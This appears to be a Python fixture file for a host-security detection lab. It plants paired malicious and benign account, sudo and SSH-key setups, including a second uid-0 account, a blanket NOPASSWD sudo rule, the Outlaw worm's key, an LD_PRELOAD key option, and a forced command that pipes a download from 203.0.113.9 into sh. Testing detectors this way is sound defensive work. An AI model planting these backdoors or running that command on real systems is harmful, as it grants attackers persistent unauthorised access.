"""Ways back in: accounts, their rights, and the keys that open them."""

from __future__ import annotations

import base64
import os

from tables.host.disk.inode_flags import IMMUTABLE
from tests.lab.case import case
from tests.lab.cases_files import marked
from tests.lab.room import Planted, Room

_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB7PVjVQmHfqqxDsSpWUW3tDpV7cGjC5vDhmy0eVvBGn"
_OUTLAW = (
    "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/"
    "+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylA"
    "KGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rB"
    "LAsPKgAySVKPRK+oRw=="
)
# The fields of a DSA key (RFC 4253 6.6) whose modulus has 1,024 bits.
_DSA_FIELDS = (b"ssh-dss", b"\0\x80" + bytes(126) + b"\1", b"\x7f" * 20, b"\2", b"\3")
_DSA = "ssh-dss " + base64.b64encode(b"".join(len(field).to_bytes(4, "big") + field for field in _DSA_FIELDS)).decode()


def account(room: Room, name: str, uid: int, home: str, shell: str, password: str) -> Planted:
    """An account with an entry in passwd and shadow."""
    room.append("/etc/passwd", f"{name}:x:{uid}:{uid}::{home}:{shell}")
    room.append("/etc/shadow", f"{name}:{password}:20000:0:99999:7:::")
    return {"username": name}


def person(room: Room, name: str, uid: int) -> Planted:
    """An account as useradd makes it."""
    return account(room, name, uid, f"/home/{name}", "/bin/bash", "!")


def key(room: Room, home: str, line: str, mode: int = 0o600, owner: int = 0) -> str:
    """A key in an account's authorized_keys."""
    return room.write(f"{home}/.ssh/authorized_keys", line + "\n", mode, owner)


def settle(room: Room, path: str, text: str) -> str:
    """Text at the end of a configuration file that may be there or not."""
    if not os.path.exists(path):
        return room.write(path, f"{text}\n", 0o440)
    room.append(path, text)
    return path


@case(13, uid_zero_account="username")
def second_root(room: Room) -> Planted:
    """a second account with uid 0."""
    return account(room, "sysbak", 0, "/root", "/bin/bash", "*")


@second_root.twin
def _(room: Room) -> Planted:
    """an administrator's account."""
    return account(room, "mlee", 1801, "/home/mlee", "/bin/bash", "$6$lab$lab")


@case(13, empty_password="username")
def no_password(room: Room) -> Planted:
    """an account with an empty password."""
    return account(room, "support", 1802, "/home/support", "/bin/bash", "")


@no_password.twin
def _(room: Room) -> Planted:
    """an account that is locked."""
    return account(room, "left", 1803, "/home/left", "/bin/bash", "!")


@case(13, service_account_with_password="username")
def service_with_password(room: Room) -> Planted:
    """a system account that was given a password and a shell."""
    return account(room, "ldap", 181, "/var/lib/ldap", "/bin/bash", "$6$lab$lab")


@service_with_password.twin
def _(room: Room) -> Planted:
    """a system account as packages make them."""
    return account(room, "_labd", 182, "/var/lib/labd", "/usr/sbin/nologin", "*")


@case(13, service_account_with_login_shell="username")
def service_with_a_shell(room: Room) -> Planted:
    """one of the distribution's accounts made usable."""
    return account(room, "labgames", 61, "/usr/games", "/bin/bash", "*")


@service_with_a_shell.twin
def _(room: Room) -> Planted:
    """a build server's account, which has a shell and no password."""
    return account(room, "labci", 982, "/var/lib/labci", "/bin/bash", "!")


@case(13, service_account_in_admin_group="username")
def service_in_docker(room: Room) -> Planted:
    """a web server's account in the docker group."""
    room.append("/etc/group", "docker:x:990:labweb")
    return account(room, "labweb", 62, "/var/www", "/usr/sbin/nologin", "*")


@service_in_docker.twin
def _(room: Room) -> Planted:
    """a monitoring agent in the docker group."""
    room.append("/etc/group", "docker:x:990:labagent")
    return account(room, "labagent", 981, "/etc/labagent", "/bin/false", "!")


@case(13, nopasswd_sudo_rule="username")
def sudo_for_everyone(room: Room) -> Planted:
    """a sudo rule that makes root of everybody."""
    settle(room, "/etc/sudoers", "ALL ALL=(ALL:ALL) NOPASSWD: ALL")
    return {"username": "ALL"}


@sudo_for_everyone.twin
def _(room: Room) -> Planted:
    """the rule of a cloud image for its first account."""
    settle(room, "/etc/sudoers", "labcloud ALL=(ALL) NOPASSWD:ALL")
    return person(room, "labcloud", 1811)


@case(13, nopasswd_sudo_rule="username")
def sudo_for_a_service(room: Room) -> Planted:
    """a service's account that may do anything without a password, by way of aliases and an included file."""
    settle(room, "/etc/sudoers", "@include /etc/sudoers.lab")
    room.write("/etc/sudoers.lab", "User_Alias WEB = labsvc\nCmnd_Alias ANY = ALL\nWEB ALL = (root) NOPASSWD: \\\n  ANY\n", 0o440)
    return account(room, "labsvc", 983, "/var/www", "/usr/sbin/nologin", "*")


@sudo_for_a_service.twin
def _(room: Room) -> Planted:
    """an agent that may restart one service."""
    settle(room, "/etc/sudoers", "labmon ALL=(root) NOPASSWD: /usr/bin/systemctl restart nginx")
    return account(room, "labmon", 984, "/var/lib/labmon", "/usr/sbin/nologin", "*")


@case(13, duplicate_account="username")
def name_twice(room: Room) -> Planted:
    """a second line with the name of an account."""
    person(room, "labtwin", 1812)
    return account(room, "labtwin", 1813, "/home/labtwin2", "/bin/bash", "*")


@name_twice.twin
def _(room: Room) -> Planted:
    """two accounts whose names differ by a letter."""
    person(room, "labtwin", 1812)
    return person(room, "labtwins", 1813)


@case(13, duplicate_account="username")
def uid_twice(room: Room) -> Planted:
    """an account that hides behind another one's uid."""
    person(room, "labfirst", 1814)
    return person(room, "labsecond", 1814)


@uid_twice.twin
def _(room: Room) -> Planted:
    """two accounts of one group and one home."""
    person(room, "labfirst", 1814)
    room.append("/etc/passwd", "labsecond:x:1815:1814::/home/labfirst:/bin/bash")
    room.append("/etc/shadow", "labsecond:!:20000::::::")
    return {"username": "labsecond"}


@case(13, malformed_account_line="username")
def malformed_line(room: Room) -> Planted:
    """a line of passwd with fields too few, which glibc reads all the same."""
    room.append("/etc/passwd", "labshort:x:1816:1816")
    return {"username": "labshort"}


@malformed_line.twin
def _(room: Room) -> Planted:
    """a comment field with commas, letters of another script and a number sign."""
    room.append("/etc/passwd", "lablong:x:1817:1817:Jörg Müller,Büro #7,,:/home/lablong:/bin/bash")
    room.append("/etc/shadow", "lablong:!:20000::::::")
    return {"username": "lablong"}


@case(13, malformed_account_line="username")
def nis_line(room: Room) -> Planted:
    """a line that lets every account of NIS in."""
    room.append("/etc/passwd", "+::::::")
    return {"username": "+"}


@nis_line.twin
def _(room: Room) -> Planted:
    """such a line as a comment, and an account whose name has a plus sign in it."""
    room.append("/etc/passwd", "#+::::::")
    return person(room, "lab+one", 1818)


@case(13, account_in_odd_place="username")
def home_in_memory(room: Room) -> Planted:
    """an account that lives in /dev/shm."""
    return account(room, "labshm", 1819, "/dev/shm/.h", "/bin/bash", "*")


@home_in_memory.twin
def _(room: Room) -> Planted:
    """a service that lives in /run and cannot log in."""
    return account(room, "labrun", 985, "/run/labrun", "/bin/false", "!")


@case(13, weak_password_hash="username")
def old_hash(room: Room) -> Planted:
    """a password written into shadow as MD5."""
    return account(room, "labmd5", 1820, "/home/labmd5", "/bin/bash", "$1$lab$lab")


@old_hash.twin
def _(room: Room) -> Planted:
    """an old hash that is locked."""
    return account(room, "labold", 1821, "/home/labold", "/bin/bash", "!$1$lab$lab")


@case(14, known_malware_key="username")
def worm_key(room: Room) -> Planted:
    """the Outlaw worm's key, under another comment."""
    key(room, "/root", f"{_OUTLAW} backup@localhost")
    return {"username": "root"}


@worm_key.twin
def _(room: Room) -> Planted:
    """an administrator's key."""
    key(room, "/root", f"{_KEY} admin@bastion")
    return {"username": "root"}


@case(14, known_malware_key="username")
def worm_comment(room: Room) -> Planted:
    """the comment of the Outlaw worm's key."""
    planted = person(room, "labworm", 1829)
    key(room, "/home/labworm", f"{_KEY} mdrfckr", owner=1829)
    return planted


@worm_comment.twin
def _(room: Room) -> Planted:
    """a key whose comment is a sentence."""
    planted = person(room, "labtalk", 1829)
    key(room, "/home/labtalk", f"{_KEY} key of the build server, ask ops before you delete it", owner=1829)
    return planted


@case(14, key_of_service_account="username")
def service_key(room: Room) -> Planted:
    """a key for an account that cannot log in."""
    planted = account(room, "_cache", 183, "/var/lib/cache", "/usr/sbin/nologin", "*")
    key(room, "/var/lib/cache", f"{_KEY} x")
    return planted


@service_key.twin
def _(room: Room) -> Planted:
    """a git server's key for an account with a shell of its own."""
    planted = account(room, "git", 1804, "/srv/git", "/usr/bin/git-shell", "*")
    key(room, "/srv/git", f"{_KEY} developer")
    return planted


@case(14, key_with_dangerous_options="username")
def key_that_preloads(room: Room) -> Planted:
    """a key whose options preload a library."""
    key(room, "/root", f'environment="LD_PRELOAD=/tmp/.lib.so" {_KEY} x')
    return {"username": "root"}


@key_that_preloads.twin
def _(room: Room) -> Planted:
    """a backup key that may run one command."""
    planted = account(room, "backup2", 1805, "/srv/backup", "/bin/sh", "*")
    key(room, "/srv/backup", f'command="/usr/bin/borg serve --restrict-to-path /srv/backup",restrict {_KEY} backup')
    return planted


@case(14, key_with_dangerous_options="username")
def key_that_downloads(room: Room) -> Planted:
    """a key whose forced command fetches a miner before it gives a shell."""
    planted = person(room, "labforced", 1822)
    key(room, "/home/labforced", f'command="curl -s http://203.0.113.9/x | sh; bash -i" {_KEY} x', owner=1822)
    return planted


@key_that_downloads.twin
def _(room: Room) -> Planted:
    """cloud-init's key for root, which only says whom to log in as."""
    command = """echo 'Please login as the user \\"debian\\" rather than the user \\"root\\".';echo;sleep 10;exit 142"""
    key(room, "/root", f'no-port-forwarding,no-agent-forwarding,no-X11-forwarding,command="{command}" {_KEY} cloud')
    return {"username": "root"}


@case(14, key_in_odd_place="path")
def key_in_sshds_other_place(room: Room) -> Planted:
    """a Match block that makes sshd take root's keys from a hidden folder."""
    settle(room, "/etc/ssh/sshd_config", "Match User root\n  AuthorizedKeysFile .ssh/authorized_keys /usr/share/.cache/%u")
    return {"path": room.write("/usr/share/.cache/root", f"{_KEY} x\n", 0o600)}


@key_in_sshds_other_place.twin
def _(room: Room) -> Planted:
    """keys that the administrators keep below /etc/ssh."""
    settle(room, "/etc/ssh/sshd_config", "Match User root\n  AuthorizedKeysFile /etc/ssh/authorized_keys.d/%u")
    return {"path": room.write("/etc/ssh/authorized_keys.d/root", f"{_KEY} ops\n", 0o644)}


@case(14, key_with_dangerous_options="forced_command")
def command_for_keys(room: Room) -> Planted:
    """a program in /dev/shm that tells sshd which keys to accept."""
    settle(room, "/etc/ssh/sshd_config", "Match all\n  AuthorizedKeysCommand /dev/shm/k %u")
    return {"forced_command": "/dev/shm/k %u"}


@command_for_keys.twin
def _(room: Room) -> Planted:
    """sssd's program, which looks keys up in a directory."""
    settle(room, "/etc/ssh/sshd_config", "Match all\n  AuthorizedKeysCommand /usr/bin/sss_ssh_authorizedkeys")
    return {"forced_command": "/usr/bin/sss_ssh_authorizedkeys"}


@case(14, weak_ssh_key="username")
def weak_key(room: Room) -> Planted:
    """a DSA key."""
    planted = person(room, "labdsa", 1823)
    key(room, "/home/labdsa", f"{_DSA} x", owner=1823)
    return planted


@weak_key.twin
def _(room: Room) -> Planted:
    """an Ed25519 key, whose 256 bits are plenty."""
    planted = person(room, "labed", 1824)
    key(room, "/home/labed", f"{_KEY} x", owner=1824)
    return planted


@case(14, key_of_many_accounts="username")
def key_in_every_home(room: Room) -> Planted:
    """a worm's key in every home that it could write to."""
    person(room, "labone", 1825)
    account(room, "labdb", 986, "/var/lib/labdb", "/bin/bash", "!")
    for home in ("/root", "/home/labone", "/var/lib/labdb"):
        key(room, home, f"{_KEY} w")
    return {"username": ("root", "labone", "labdb")}


@key_in_every_home.twin
def _(room: Room) -> Planted:
    """one administrator's key for root and two accounts of people."""
    person(room, "labone", 1825)
    person(room, "labtwo", 1826)
    for home in ("/root", "/home/labone", "/home/labtwo"):
        key(room, home, f"{_KEY} admin")
    return {"username": ("root", "labone", "labtwo")}


@case(14, key_file_open_to_others="username")
def foreign_key_file(room: Room) -> Planted:
    """root's keys in a file of the web server's."""
    key(room, "/root", f"{_KEY} x", 0o644, owner=33)
    return {"username": "root"}


@foreign_key_file.twin
def _(room: Room) -> Planted:
    """a file that the account's own group may write to, as Debian's umask for people makes it."""
    planted = person(room, "labown", 1827)
    key(room, "/home/labown", f"{_KEY} x", 0o664, owner=1827)
    return planted


@case(14, immutable_key_file="username")
def immutable_keys(room: Room) -> Planted:
    """keys that not even root can take out of the file."""
    account(room, "lablocked", 1840, "/home/lablocked", "/bin/bash", "!")
    path = key(room, "/home/lablocked", f"{_KEY} x", owner=1840)
    return {"username": "lablocked", "path": marked(room, path, IMMUTABLE)}


@immutable_keys.twin
def _(room: Room) -> Planted:
    """a key in a file that its owner can change."""
    account(room, "labopen", 1841, "/home/labopen", "/bin/bash", "!")
    return {"username": "labopen", "path": key(room, "/home/labopen", f"{_KEY} mlee@laptop", owner=1841)}
